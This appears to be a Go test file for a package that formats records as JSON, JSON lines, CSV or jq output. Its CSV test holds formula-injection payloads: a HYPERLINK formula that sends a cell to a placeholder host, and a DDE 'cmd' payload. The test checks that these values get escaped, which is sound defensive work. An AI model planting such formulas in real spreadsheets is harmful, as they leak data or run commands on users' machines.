package output

import (
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
)

type person struct {
	Name  string  `json:"name"`
	Email *string `json:"email"`
}

type row struct {
	Number   int64   `json:"number"`
	Name     string  `json:"name"`
	Total    *string `json:"total"`
	Customer *person `json:"customer"`
	*hidden
	Areas    []person `json:"areas"`
	Modified string   `json:"lastModified"`
}

type hidden struct {
	Notes string `json:"notes"`
}

func rowsOf() []row {
	total, email := "42921.50", "erik@example.com"
	return []row{
		{
			1042, "Halvorsen, Residence", &total, &person{"Erik <E>", &email}, nil,
			[]person{{Name: "Den"}, {Name: "Bar"}},
			"2026-04-06T10:00:00Z",
		},
		{1041, "Quote \" it", nil, nil, &hidden{"x"}, nil, "2026-02-01T10:00:00Z"},
	}
}

func print(t *testing.T, f Format, v any) string {
	t.Helper()
	if err := f.Prepare(reflect.TypeOf(v)); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := f.Write(&b, v); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestFormats(t *testing.T) {
	for _, tt := range []struct {
		name string
		f    Format
		want string
	}{
		{"fields in their order, what is not there is null", Format{Fields: []string{"name", "customer.name"}}, `[
  {
    "name": "Halvorsen, Residence",
    "customer": {
      "name": "Erik <E>"
    }
  },
  {
    "name": "Quote \" it",
    "customer": null
  }
]
`},
		{
			"a line each, as it is written",
			Format{Lines: true, Fields: []string{"number", "areas.name"}},
			`{"number":1042,"areas":[{"name":"Den"},{"name":"Bar"}]}` + "\n" + `{"number":1041,"areas":null}` + "\n",
		},
		{
			"a column for what is in an object",
			Format{CSV: true},
			`number,name,total,customer.name,customer.email,notes,areas,lastModified
1042,"Halvorsen, Residence",42921.50,Erik <E>,erik@example.com,,"[{""name"":""Den"",""email"":null},{""name"":""Bar"",""email"":null}]",2026-04-06T10:00:00Z
1041,"Quote "" it",,,,x,,2026-02-01T10:00:00Z
`,
		},
		{
			"columns that were asked for",
			Format{CSV: true, Fields: []string{"customer.name", "number"}},
			"customer.name,number\nErik <E>,1042\n,1041\n",
		},
		{
			"texts as they are, numbers not as floats",
			Format{JQ: ".[] | .name, .number, .customer"},
			"Halvorsen, Residence\n1042\n{\"email\":\"erik@example.com\",\"name\":\"Erik <E>\"}\nQuote \" it\n1041\nnull\n",
		},
		{
			"the expression sees the fields alone",
			Format{JQ: ".[0] | keys", Fields: []string{"number"}},
			"[\"number\"]\n",
		},
	} {
		if got := print(t, tt.f, rowsOf()); got != tt.want {
			t.Errorf("%s:\n%s\nwant\n%s", tt.name, got, tt.want)
		}
	}
}

func TestASingleObject(t *testing.T) {
	one := rowsOf()[0]
	if got, want := print(t, Format{Lines: true, Fields: []string{"number"}}, one), "{\"number\":1042}\n"; got != want {
		t.Errorf("a line: %q, want %q", got, want)
	}
	if got, want := print(t, Format{CSV: true, Fields: []string{"number", "areas.name"}}, one),
		"number,areas.name\n1042,\"[{\"\"name\"\":\"\"Den\"\"},{\"\"name\"\":\"\"Bar\"\"}]\"\n"; got != want {
		t.Errorf("a row: %q, want %q", got, want)
	}
}

// A list in a cell is written as elsewhere, so that a script finds the same names.
func TestAListInACellIsTheJSONOfOtherFormats(t *testing.T) {
	one := row{Areas: []person{{Name: "Den & <Bar>"}}}
	if got, want := print(t, Format{CSV: true, Fields: []string{"areas.name"}}, one),
		"areas.name\n\"[{\"\"name\"\":\"\"Den & <Bar>\"\"}]\"\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

// The name of a client could otherwise send the rest of the sheet to someone else.
func TestATextInCSVIsNoFormula(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("https://a.example?"&A1)`: `'=HYPERLINK("https://a.example?"&A1)`, "@SUM(A1)": "'@SUM(A1)",
		"-1+cmd|'/C calc'!A0": "'-1+cmd|'/C calc'!A0",
		"+A1":                 "'+A1", "\t=A1": "'\t=A1", "- rack": "'- rack",
		"'=A1": "''=A1", "''-5": "'''-5", "'quoted'": "'quoted'", // the next reader removes one apostrophe
		"-12.50": "-12.50", "+1 (512) 555-0142": "+1 (512) 555-0142", "1=2": "1=2",
	} {
		var b strings.Builder
		f := Format{CSV: true}
		if err := f.Write(&b, []hidden{{text}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %v, %q", text, err, b.String())
		}
		if rows[1][0] != want {
			t.Errorf("%q is written as %q, want %q", text, rows[1][0], want)
		}
	}
}

// A script that reads the columns would fail without a heading.
func TestEmptyCSVHasItsHeading(t *testing.T) {
	if got := print(t, Format{CSV: true, Fields: []string{"number", "name"}}, []row{}); got != "number,name\n" {
		t.Errorf("%q", got)
	}
	if got := print(t, Format{CSV: true}, []row{}); !strings.HasPrefix(got, "number,name,total,customer.name,") {
		t.Errorf("%q", got)
	}
}

// An invalid expression is reported before anything is done: a write whose result can't be printed would be repeated.
func TestInvalidFormatsAreReportedFirst(t *testing.T) {
	for _, tt := range []struct {
		f    Format
		want string
	}{
		{
			Format{Fields: []string{"nmber"}},
			"no field \"nmber\"\n  There are number, name, total, customer, notes, areas, lastModified.",
		},
		{Format{Fields: []string{"customer.phone"}}, `no field "customer.phone"`},
		{Format{JQ: ".["}, "not a jq expression"},
		{Format{CSV: true, Lines: true}, "Give one of them"},
	} {
		err := tt.f.Prepare(reflect.TypeFor[[]row]())
		if _, ok := errors.AsType[Problem](err); !ok || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%+v: %v, want %q", tt.f, err, tt.want)
		}
	}
	for _, f := range []Format{{JQ: ".[0] | tonumber"}} {
		if err := f.Prepare(); err != nil {
			t.Fatal(err)
		}
		var p Problem
		if err := f.Write(&strings.Builder{}, rowsOf()); !errors.As(err, &p) {
			t.Errorf("%+v: %v", f, err)
		}
	}
}

func TestAJQProgramMayHalt(t *testing.T) {
	if got := print(t, Format{JQ: `"a", halt, "b"`}, rowsOf()); got != "a\n" {
		t.Errorf("%q", got)
	}
}
